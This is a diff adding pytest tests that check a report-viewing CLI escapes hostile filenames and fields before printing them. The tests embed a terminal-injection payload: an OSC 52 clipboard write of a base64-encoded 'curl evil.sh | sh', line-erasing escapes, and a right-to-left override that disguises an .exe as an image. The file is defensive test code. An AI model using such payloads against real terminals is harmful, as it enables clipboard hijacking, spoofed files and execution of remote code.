@@ -6,14 +6,17 @@ from __future__ import annotations
 import asyncio
 import hashlib
 import json
+import re
 import stat
 import uuid
 from pathlib import Path
 
+import pytest
 from sqlalchemy import select
 from typer.testing import CliRunner, Result
 
 from amparo.cli import app
+from amparo.reports import show
 from core import reports
 from core.db import transaction
 from core.messages import InboundAttachment
@@ -80,6 +83,53 @@ async def test_a_report_opens_on_a_workstation_with_its_evidence(
     assert text.exit_code == 0, text.output
     assert "Two men followed me home." in text.stdout and digest in text.stdout
     assert "--evidence" in text.stdout
+
+
+# Abuse case 13: what the defender's phone names a file (a Telegram document's file_name is
+# whatever the sender set) reaches the responder's terminal. OSC 52 writes the clipboard; CSI
+# 1A + 2K erases the line above; U+009B is the 8-bit CSI; U+202E reverses what follows.
+HOSTILE = "x\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[1A\x1b[2K\u009b2K\u202egpj.exe\x7f"
+ACTS_ON = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
+
+
+async def test_what_the_phone_sent_reaches_the_terminal_without_escapes(
+    desk: Desk, site: str
+) -> None:
+    report_id = await file_report(desk, desk.a, jpeg_with_gps(), HOSTILE)
+    text = await cli([str(report_id)], site, desk.a.token)
+    assert text.exit_code == 0, text.output
+    assert not ACTS_ON.findall(text.stdout), repr(text.stdout)
+    assert "x\\u001b]52;c;" in text.stdout  # shown, escaped, not dropped
+    as_json = await cli([str(report_id), "--json"], site, desk.a.token)
+    assert not ACTS_ON.findall(as_json.stdout), repr(as_json.stdout)
+    [found] = json.loads(as_json.stdout.strip().splitlines()[-1])["evidence"]
+    assert found["filename"] == HOSTILE  # the same JSON once parsed
+
+
+def test_every_field_shown_is_escaped(capsys: pytest.CaptureFixture[str]) -> None:
+    data = {
+        "report": "5b0f3c1e-0000-4000-8000-000000000001",
+        "body": {
+            "format": "amparo-report-1",
+            "parts": [{"te\x1bxt": "a\u009b2Kb"}],
+            "note\x9b": "caf\u0085\u00e9 \u0645\u0631\u062d\u0628\u0627",
+        },
+        "evidence": [
+            {
+                "id": "e1",
+                "filename": HOSTILE,
+                "content_type": "image/jpeg\x1b[8m",  # the sender's mime_type, unchecked
+                "size": 3,
+                "sha256": "ab" * 32,
+                "saved_as": None,
+            }
+        ],
+    }
+    show(data, saving=False)
+    out = capsys.readouterr().out
+    assert not ACTS_ON.findall(out), repr(out)
+    assert "image/jpeg\\u001b[8m" in out
+    assert "caf\\u0085\u00e9 \u0645\u0631\u062d\u0628\u0627" in out  # letters stay letters
 
 
 async def test_an_evidence_file_moved_from_another_report_is_refused(
